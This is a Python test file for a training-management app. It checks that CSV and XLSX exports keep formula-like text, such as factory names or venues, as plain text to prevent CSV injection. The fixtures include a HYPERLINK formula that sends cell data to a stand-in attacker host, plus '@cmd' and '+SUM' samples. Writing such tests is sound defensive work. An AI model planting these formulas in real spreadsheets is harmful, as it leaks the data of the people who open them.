"""Exports a spreadsheet opens: text that looks like a formula stays text (CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from ims.training import exports

LINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Open the report")'


@pytest.mark.django_db
def test_a_factory_named_like_a_formula_is_text_in_the_public_factories_csv(make_factory):
    make_factory("F-EVIL", name_en=LINK, name_km="+SUM(1,2)", name_zh="@cmd")
    make_factory("F-PLAIN", name_en="Plain Garments Ltd.", name_km="-", name_zh="")
    answer = APIClient().get("/api/v1/public/downloads/factories.csv")
    assert answer.status_code == 200
    text = b"".join(answer.streaming_content).decode("utf-8-sig")  # after the byte-order mark
    rows = {row["ref"]: row for row in csv.DictReader(io.StringIO(text))}
    evil = rows["F-EVIL"]
    assert (evil["name_en"], evil["name_km"], evil["name_zh"]) == ("'" + LINK, "'+SUM(1,2)", "'@cmd")
    # Ordinary names keep their text; a lone dash is still a formula start, so it is quoted too.
    assert (rows["F-PLAIN"]["name_en"], rows["F-PLAIN"]["name_km"]) == ("Plain Garments Ltd.", "'-")


def participation_row(**values):
    return {column: "" for column in exports.COLUMNS} | {"session_days": 2, "days_present": -1} | values


def test_participation_exports_keep_formula_like_names_as_text_and_numbers_as_numbers():
    rows = [participation_row(factory_name=LINK, venue="=1+1", trainer="-Sokha")]
    parsed = next(csv.DictReader(io.StringIO(exports.as_csv(rows))))
    assert (parsed["factory_name"], parsed["venue"], parsed["trainer"]) == ("'" + LINK, "'=1+1", "'-Sokha")
    assert (parsed["session_days"], parsed["days_present"]) == ("2", "-1")

    sheet = load_workbook(io.BytesIO(exports.as_xlsx(rows))).active
    header = [cell.value for cell in sheet[1]]
    cells = {
        name: sheet.cell(row=2, column=header.index(name) + 1) for name in ("factory_name", "venue", "days_present")
    }
    assert (cells["factory_name"].value, cells["factory_name"].data_type) == (LINK, "s")
    assert (cells["venue"].value, cells["venue"].data_type) == ("=1+1", "s")
    assert (cells["days_present"].value, cells["days_present"].data_type) == (-1, "n")
